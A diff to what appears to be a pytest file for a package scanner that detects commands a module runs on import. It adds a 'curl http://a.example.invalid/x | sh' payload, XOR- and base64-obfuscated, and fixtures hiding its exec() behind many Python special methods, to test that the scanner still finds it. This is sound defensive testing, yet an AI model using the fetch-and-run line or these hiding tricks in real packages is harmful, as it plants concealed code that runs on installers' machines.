@@ -3,6 +3,8 @@
 Source: The Python Language Reference, 3.3 Special method names.
 """
 
+import base64
+
 import pytest
 from attack_files import wheel
 
@@ -93,3 +95,83 @@ with C("http://a.example.invalid/x"):
     ]
     told = [mark.spot.what for one in programs for flow in one.flows for mark in flow.carries]
     assert any("http://a.example.invalid/x" in one for one in told), told
+
+
+PAYLOAD = "import os\nos.system('curl http://a.example.invalid/x | sh')\n"
+HIDDEN = base64.b64encode(bytes(one ^ 7 for one in PAYLOAD.encode())).decode()
+SHOW = "bytes(one ^ 7 for one in base64.b64decode({})).decode()"
+
+DECODERS = {
+    "__getitem__(self, text)": ("return", "text", "exec(C()[HIDDEN])"),
+    "__missing__(self, text)": ("return", "text", "exec(C()[HIDDEN])"),
+    "__add__(self, text)": ("return", "text", "exec(C() + HIDDEN)"),
+    "__ror__(self, text)": ("return", "text", "exec(HIDDEN | C())"),
+    "__matmul__(self, text)": ("return", "text", "exec(C() @ HIDDEN)"),
+    "__pow__(self, text)": ("return", "text", "exec(C() ** HIDDEN)"),
+    "__invert__(self)": ("return", "HIDDEN", "exec(~C())"),
+    "__str__(self)": ("return", "HIDDEN", "exec('%s' % C())"),
+    "__repr__(self)": ("return", "HIDDEN", "exec(repr(C()))"),
+    "__format__(self, form)": ("return", "HIDDEN", "exec(f'{C()}')"),
+    "__iter__(self)": ("yield", "HIDDEN", "for one in C(): exec(one)"),
+    "__next__(self)": ("return", "HIDDEN", "exec(next(C()))"),
+    "__enter__(self)": ("return", "HIDDEN", "with C() as one: exec(one)"),
+    "__getattribute__(self, name)": ("return", "HIDDEN", "exec(C().any)"),
+    "__class_getitem__(cls, text)": ("return", "text", "exec(C[HIDDEN])"),
+    "__divmod__(self, text)": ("return", "text", "exec(divmod(C(), HIDDEN))"),
+    "__sub__(self, text)": ("return", "text", "exec(operator.sub(C(), HIDDEN))"),
+}
+EXECUTORS = {
+    "__setitem__(self, key, text)": "C()[1] = HIDDEN",
+    "__setattr__(self, key, text)": "C().any = HIDDEN",
+    "__set__(self, holder, text)": "class D:\n    any = C()\nD().any = HIDDEN",
+    "__delitem__(self, text)": "del C()[HIDDEN]",
+    "__contains__(self, text)": "HIDDEN in C()",
+    "__eq__(self, text)": "C() == HIDDEN",
+    "__gt__(self, text)": "HIDDEN < C()",
+    "__iadd__(self, text)": "c = C()\nc += HIDDEN",
+}
+
+
+def commands(text: str) -> list[str]:
+    """The commands that a module starts when it is imported, as far as anybody can see."""
+    files = {"pkg/__init__.py": f"import base64, operator\nHIDDEN = {HIDDEN!r}\n{text}\n"}
+    programs = [one for one in wheel(files).facts if isinstance(one, Program)]
+    return [
+        flow.text
+        for one in programs
+        for flow in one.flows
+        if flow.act is Act.RUN and flow.reach is Reach.IMPORT
+    ]
+
+
+@pytest.mark.parametrize("method", DECODERS)
+def test_what_an_operator_decodes_is_read(method: str) -> None:
+    how, text, use = DECODERS[method]
+    kind = f"class C:\n    def {method}:\n        {how} {SHOW.format(text)}\n"
+    assert any("a.example.invalid" in one for one in commands(kind + use))
+
+
+@pytest.mark.parametrize("method", EXECUTORS)
+def test_what_an_operator_executes_is_read(method: str) -> None:
+    kind = f"class C:\n    def {method}:\n        exec({SHOW.format('text')})\n"
+    assert any("a.example.invalid" in one for one in commands(kind + EXECUTORS[method]))
+
+
+def test_a_property_that_is_set() -> None:
+    kind = f"""class C:
+    @property
+    def any(self):
+        return 1
+    @any.setter
+    def any(self, text):
+        exec({SHOW.format("text")})
+"""
+    assert any("a.example.invalid" in one for one in commands(kind + "C().any = HIDDEN"))
+    assert not commands(kind + "C().any")
+
+
+def test_a_part_that_an_object_cuts_out() -> None:
+    kind = (
+        f"class C:\n    def __getitem__(self, part):\n        return {SHOW.format('part.stop')}\n"
+    )
+    assert any("a.example.invalid" in one for one in commands(kind + "exec(C()[:HIDDEN])"))
